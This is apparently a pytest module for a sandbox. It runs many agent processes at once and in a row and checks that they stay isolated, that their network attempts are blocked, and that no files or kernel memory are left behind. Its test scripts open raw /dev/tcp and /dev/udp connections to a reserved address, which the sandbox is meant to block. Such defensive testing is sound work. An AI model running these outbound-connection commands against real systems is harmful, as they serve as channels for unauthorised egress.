"""Many runs: at the same time, where none may get into another's way, and in a row, where none may leave anything."""

from __future__ import annotations

import os
import re
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path

import pytest
from tests.runs.launch import AS_ROOT, ENVIRONMENT, Place, wait_until, write_policy
from tests.runs.remains import Remains, watch_remains

pytestmark = pytest.mark.sandbox

TOGETHER = 50
IN_A_ROW = 100
PARTS = 2 if AS_ROOT else 1
"""Together two hundred as root: one test of all would take too long where much else goes on."""

LANE = Path(__file__).with_name("lane.py")
NAMESPACES = 12
"""So many of a kind at a time are enough for one lane; the kernel takes a moment to put one away."""

GROWTH_KIB = 48 << 10
"""Of the kernel's own memory: half a MiB a run. What a smaller leak might be is in namespaces, and they are counted."""

SCRIPT = """
(echo x >/dev/udp/203.0.113.9/9) 2>/dev/null
exec 3<>/dev/tcp/203.0.113.9/443 && echo x >&3 && read -u 3 2>/dev/null
exit 3
"""


@pytest.fixture
def remains(place: Place) -> Iterator[Remains]:
    with watch_remains(place.path / "temporary") as found:
        yield found


def test_fifty_runs_at_the_same_time_keep_to_themselves(place: Place, remains: Remains) -> None:
    gate = place.work / "gate"
    os.mkfifo(gate)
    gate.chmod(0o666)
    environment = {"TMPDIR": str(remains.temporary)}
    runs = []
    for number in range(TOGETHER):
        port = 10_000 + number
        attempt = f"exec 3<>/dev/tcp/203.0.113.9/{port}; echo x >&3; read -u 3"
        script = f": >there-{number}; : <gate; {attempt}; exit {number}"
        runs.append(place.start(write_policy(), "bash", "-c", script, environment=environment))
    wait_until(lambda: len(list(place.work.glob("there-*"))) == TOGETHER, "all of the agents", 240)
    with gate.open("w"):  # all along: an agent that is there may not have got to the gate yet
        for number, started in enumerate(runs):
            ended = started.wait(120)
            assert ended.code == number
            assert [block.target for block in ended.blocks] == [f"tcp://203.0.113.9:{10_000 + number}"]
            assert ended.verify() == 0
    assert len({started.status_file.read_text() for started in runs}) == TOGETHER
    remains.assert_none()


@pytest.mark.parametrize("part", range(PARTS))
def test_a_hundred_runs_in_a_row_leave_nothing(place: Place, remains: Remains, part: int) -> None:
    place.write("policy.toml", write_policy())
    place.write("key.pub", place.key.public_hex)
    before = read_kernel_memory()
    lanes = []
    for name, most in (("limited", NAMESPACES), ("plain", 0)):
        command = [sys.executable, str(LANE), str(IN_A_ROW // 2), str(most), str(place.path), name, SCRIPT]
        environment = {**ENVIRONMENT, "TMPDIR": str(remains.temporary)}
        lanes.append(subprocess.Popen(command, cwd=place.work, env=environment))
    try:
        assert [lane.wait() for lane in lanes] == [0, 0]
    finally:
        for lane in lanes:
            lane.kill()
    remains.assert_none()
    wait_until(lambda: read_kernel_memory() < before + GROWTH_KIB, f"less than {before} + {GROWTH_KIB} KiB")


def read_kernel_memory() -> int:
    """KiB that the kernel keeps for itself and can't give back at will."""
    text = Path("/proc/meminfo").read_text()
    names = ("SUnreclaim", "KernelStack", "PageTables", "Percpu")
    return sum(int(re.findall(rf"^{name}:\s+(\d+) kB$", text, re.MULTILINE)[0]) for name in names)
